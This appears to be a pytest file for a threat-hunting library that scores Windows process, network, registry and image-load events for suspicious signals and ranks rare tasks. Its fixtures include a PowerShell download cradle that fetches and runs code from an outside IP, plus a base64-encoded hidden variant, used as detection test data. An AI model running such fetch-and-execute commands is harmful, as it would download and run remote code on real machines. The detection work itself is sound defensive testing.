"""Triage: scoring signals with reasons, and the rank order."""

import base64

import pandas as pd

from hunting_lib.hunt import run_hunt
from hunting_lib.params import HuntParams
from hunting_lib.triage.pipeline import rank
from hunting_lib.triage.scoring import default_scoring
from tests.conftest import activity, task_start, typed

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://45.77.12.34/a')"
ENCODED = "powershell.exe -nop -w hidden -enc " + base64.b64encode(CRADLE.encode("utf-16-le")).decode()


def hunt(processes, **tables):
    frames = {"DeviceProcessEvents": typed("DeviceProcessEvents", processes)}
    frames.update({name: typed(name, rows) for name, rows in tables.items()})
    return run_hunt(frames, HuntParams(exclusions=None))


def reasons_of(result, file_name):
    row = result.rare_tasks[result.rare_tasks["FileName"] == file_name].iloc[0]
    return set(row["Reasons"]), row


def test_command_line_signals_use_the_decoded_text():
    result = hunt([task_start("powershell.exe", ENCODED, PS, account="system")])
    reasons, row = reasons_of(result, "powershell.exe")
    assert {"encoded_command", "download_cradle", "hidden_or_bypass", "url_in_arguments",
            "lolbin", "system_account", "single_device"} <= reasons
    assert "user_writable_path" not in reasons
    assert row["DecodedCommand"] == CRADLE
    assert row["Score"] == sum(default_scoring().weights[r] for r in row["Reasons"])
    assert all(row[r] for r in row["Reasons"])  # every reason is also a column


def test_activity_signals():
    task = ("upd.exe", "upd.exe", r"C:\Users\bob\AppData\Roaming\upd.exe")
    child = task_start("cmd.exe", "cmd.exe /c whoami", r"C:\Windows\System32\cmd.exe", pid=8)
    child.update(InitiatingProcessFileName=task[0], InitiatingProcessCommandLine=task[1],
                 InitiatingProcessFolderPath=task[2], InitiatingProcessId=4000)
    result = hunt(
        [task_start(*task, account="bob"), child],
        DeviceNetworkEvents=[activity(*task, RemoteIP="10.0.0.5"), activity(*task, RemoteIP="185.100.87.3")],
        DeviceRegistryEvents=[activity(*task, action="RegistryValueSet",
                                       RegistryKey=r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run")],
        DeviceImageLoadEvents=[activity(*task, action="ImageLoaded", FileName="x.dll",
                                        FolderPath=r"C:\Users\bob\AppData\Local\Temp\x.dll")],
    )
    reasons, _ = reasons_of(result, "upd.exe")
    assert {"public_ip", "persistence_registry", "user_writable_image_load", "child_shell",
            "user_writable_path", "single_device"} <= reasons
    assert "system_account" not in reasons and "lolbin" not in reasons


def test_private_addresses_and_system_dll_loads_are_not_signals():
    task = ("agent.exe", "agent.exe", r"C:\Program Files\Agent\agent.exe")
    result = hunt([task_start(*task, device=d, pid=i, account="svc") for i, d in enumerate(["a", "b"])],
                  DeviceNetworkEvents=[activity(*task, pid=0, device="a", RemoteIP="192.168.1.10")],
                  DeviceImageLoadEvents=[activity(*task, pid=0, device="a", action="ImageLoaded",
                                                  FolderPath=r"C:\Windows\System32\ntdll.dll")])
    reasons, row = reasons_of(result, "agent.exe")
    assert reasons == set() and row["Score"] == 0


def test_rank_puts_suppressed_last_and_orders_by_score():
    frame = pd.DataFrame({
        "FileName": ["a", "b", "c", "d"], "ProcessCommandLine": ["a", "b", "c", "d"], "FolderPath": ["a"] * 4,
        "Count": [1, 2, 1, 1], "DeviceCount": [1, 1, 1, 1],
        "Score": [3.0, 9.0, 12.0, 3.0], "SuppressedBy": [None, None, "rule", None],
    })
    assert rank(frame)["FileName"].tolist() == ["b", "a", "d", "c"]


def test_indicators_come_from_the_command_and_its_decoded_text():
    result = hunt([task_start("powershell.exe", ENCODED, PS, account="system"),
                   task_start("plain.exe", "plain.exe --quiet", r"C:\Tools\plain.exe")])
    by_name = dict(zip(result.rare_tasks["FileName"], result.rare_tasks["Indicators"]))
    assert {"ipv4:45.77.12.34", "url:http://45.77.12.34/a"} <= set(by_name["powershell.exe"])
    assert by_name["plain.exe"] == []


def test_a_local_export_with_signature_states_marks_unsigned_programs():
    task = ("agent.exe", "agent.exe --sync", r"C:\Program Files\Agent\agent.exe")
    signed = ("tool.exe", "tool.exe", r"C:\Program Files\Tool\tool.exe")
    result = hunt([task_start(*task, pid=1), task_start(*signed, pid=2)],
                  DeviceFileEvents=[activity(*task, pid=1, action="FileCreated", InitiatingProcessSignatureStatus="Unsigned"),
                                    activity(*signed, pid=2, action="FileCreated", InitiatingProcessSignatureStatus="Valid")])
    assert "unsigned_binary" in reasons_of(result, "agent.exe")[0]
    assert "unsigned_binary" not in reasons_of(result, "tool.exe")[0]
